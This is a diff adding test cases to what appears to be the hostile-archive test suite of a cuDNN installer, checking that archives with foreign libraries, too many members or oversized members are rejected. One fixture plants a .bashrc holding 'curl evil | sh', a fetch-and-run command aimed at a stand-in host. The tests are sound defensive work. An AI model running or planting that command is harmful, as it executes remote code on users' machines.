@@ -415,6 +415,19 @@ HOSTILE.update({
     "corrupt-zip-data": (lambda t: _corrupt(ca.write_zip(t / f"{WTOP}.zip", [
         (p, k, os.urandom(200_000) if p.endswith(".dll") else d)
         for p, k, d in ca.windows_entries("9.10.2.21", "12", "archive")])), "windows", ["truncated or corrupt"]),
+    # issue 14: only what a cuDNN archive contains, and limits before anything is written
+    "tar-dotfile-in-include": (lambda t: _tar_with(t, [(f"{TOP}/include/.bashrc", "file", b"curl evil | sh\n")]),
+                               "linux", ["include/.bashrc", "not a cuDNN file"]),
+    "tar-foreign-library": (lambda t: _tar_with(t, [(f"{TOP}/lib/libc.so.6", "file", b"\x7fELF")]), "linux",
+                            ["lib/libc.so.6", "not a cuDNN file"]),
+    "zip-foreign-dll": (lambda t: _zip_with(t, [(f"{WTOP}/bin/python311.dll", "file", b"MZ")]), "windows",
+                        ["bin/python311.dll", "not a cuDNN file"]),
+    "tar-too-many-members": (lambda t: ca.many_members_tar(t / f"{TOP}.tar.xz", 2500), "linux",
+                             ["more than 2000 members"]),
+    "zip-too-many-members": (lambda t: _zip_with(t, [(f"{WTOP}/include/cudnn_x{i}.h", "file", b"")
+                                                     for i in range(2500)]), "windows", ["more than 2000 members"]),
+    "tar-declares-a-9-gib-member": (lambda t: ca.huge_member_tar(t / f"{TOP}.tar.gz", 9 << 30), "linux",
+                                    ["more than 8 GiB", "libcudnn_engines_precompiled"]),
 })
 
 
